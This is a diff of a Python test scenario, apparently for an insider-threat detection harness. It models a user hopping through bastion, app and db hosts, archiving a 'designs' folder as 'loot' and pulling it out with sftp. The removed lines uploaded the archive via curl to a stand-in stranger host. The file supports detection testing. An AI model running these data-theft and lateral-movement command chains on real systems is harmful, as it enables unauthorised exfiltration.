@@ -3,31 +3,33 @@
 from __future__ import annotations
 
 from ..props import DESIGN_BYTES, designs
-from ..scenario import BACKUP, EVERYTHING, STRANGER, Person, Prepared, Scenario, Step, Truth
+from ..scenario import Person, Scenario, Service, Step, Truth
+from ..twins import Draw
 
-_DEPLOY = "id deploy 2>/dev/null || useradd --create-home --shell /bin/bash deploy"
-_PACK = "tar czf /tmp/release.tgz -C /srv designs"
-_SEND = "curl -sS --noproxy '*' -T /tmp/release.tgz http://{server}:8080/r.tgz"
+
+def _twin(draw: Draw) -> tuple[Step, ...]:
+    look = draw.one_of("uptime", "ls /srv/designs", "df /", "tail -n 5 /etc/services")
+    return (Step("amy", f'ssh amy@bastion "ssh amy@app \\"sudo -u deploy ssh deploy@db {look}\\""'),)
+
 
 SCENARIO = Scenario(
     number=25,
-    title="laptop to bastion to app, sudo to a service account, an upload",
-    people=(Person("alice", ("bastion", "app"), EVERYTHING), Person("amy", ("bastion", "app"), EVERYTHING)),
-    prepared=(designs("app"), Prepared("app", _DEPLOY)),
+    title="laptop to bastion to app, as a service account to db, and sftp get of what was packed there",
+    people=(
+        Person("alice", ("bastion", "app"), "NOPASSWD: ALL"),
+        Person("amy", ("bastion", "app"), "NOPASSWD: ALL"),
+    ),
+    services=(Service("deploy", ("app", "db")),),
+    prepared=(designs("db"),),
     steps=(
         Step(
             "alice",
-            f'ssh alice@bastion "ssh alice@app \\"sudo -u deploy {_PACK} && '
-            f'sudo -u deploy {_SEND.format(server=STRANGER)}\\""',
+            'ssh alice@bastion "ssh alice@app '
+            '\\"sudo -u deploy ssh deploy@db tar czf - -C /srv designs\\" > loot"',
         ),
+        Step("alice", "echo 'get loot /tmp/loot' | sftp -q -b - alice@bastion"),
     ),
-    twin_title="the daily way over the bastion, and a release to the backup host",
-    twin=(
-        Step(
-            "amy",
-            'ssh amy@bastion "ssh amy@app \\"sudo -u deploy tar czf /tmp/daily.tgz -C /srv designs && '
-            f'sudo -u deploy {_SEND.format(server=BACKUP).replace("release", "daily")}\\""',
-        ),
-    ),
-    truth=Truth("alice", ("bastion", "app"), ("upload-new-destination",), DESIGN_BYTES, STRANGER),
+    twin_title="the daily way over the bastion, with a look as the service account",
+    twin=_twin,
+    truth=Truth("alice", ("bastion", "app", "db"), ("inbound-download", "lateral-edge"), DESIGN_BYTES),
 )
